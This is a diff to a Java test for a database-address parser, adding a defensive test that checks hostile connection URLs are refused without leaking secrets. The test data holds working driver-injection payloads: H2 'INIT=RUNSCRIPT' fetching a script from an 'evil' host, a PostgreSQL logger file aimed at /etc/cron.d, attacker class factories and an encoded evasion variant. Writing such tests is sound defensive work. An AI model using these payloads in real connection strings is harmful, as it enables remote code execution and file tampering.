@@ -61,7 +61,8 @@ class DatabaseAddressTest {
         }) {
       assertThat(read(url).describe() + read(url)).doesNotContain("secret77");
     }
-    assertThat(read("postgresql://u:secret77@h/db?x=y").describe()).isEqualTo("postgresql://h/db");
+    assertThat(read("postgresql://u:secret77@h/db?ssl=true").describe())
+        .isEqualTo("postgresql://h/db");
   }
 
   @Test
@@ -71,6 +72,33 @@ class DatabaseAddressTest {
         .isEqualTo(new DatabaseAddress("jdbc:postgresql://h/db", "eve", "pw", false));
     assertThat(DatabaseAddress.of("postgresql://u:p@h/db", Path.of(""), environment).user())
         .isEqualTo("u");
+  }
+
+  /// What makes the drivers load classes, run scripts, write files or reach over the network.
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "postgresql://h/db?socketFactory=org.evil.Factory&socketFactoryArg=x",
+        "postgresql://h/db?sslfactory=org.evil.Factory",
+        "postgresql://h/db?SslHostnameVerifier=org.evil.Verifier",
+        "jdbc:postgresql://h/db?authenticationPluginClassName=org.evil.Plugin",
+        "postgresql://h/db?loggerLevel=TRACE&loggerFile=/etc/cron.d/evil",
+        "postgresql://h/db?xmlFactoryFactory=org.evil.Xml",
+        "postgresql://h/db?%73ocketFactory=org.evil.Factory",
+        "postgresql://u:secret77@h/db?secret77",
+        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
+        "jdbc:h2:mem:x; init =RUNSCRIPT FROM '/tmp/x.sql'",
+        "jdbc:h2:mem:x\\\\;INIT=RUNSCRIPT FROM '/tmp/x.sql'",
+        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
+        "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
+        "jdbc:h2:tcp://evil/db",
+        "JDBC:H2:SSL://evil/db",
+        "jdbc:h2:zip:/tmp/x.zip!/db"
+      })
+  void refusesWhatDriversCouldBeMisusedBy(String url) {
+    Fault fault = catchThrowableOfType(Fault.class, () -> read(url));
+    assertThat(fault.kind()).isEqualTo(Fault.Kind.USAGE);
+    assertThat(fault.getMessage() + fault.remedy()).doesNotContain("secret77", "evil");
   }
 
   @ParameterizedTest
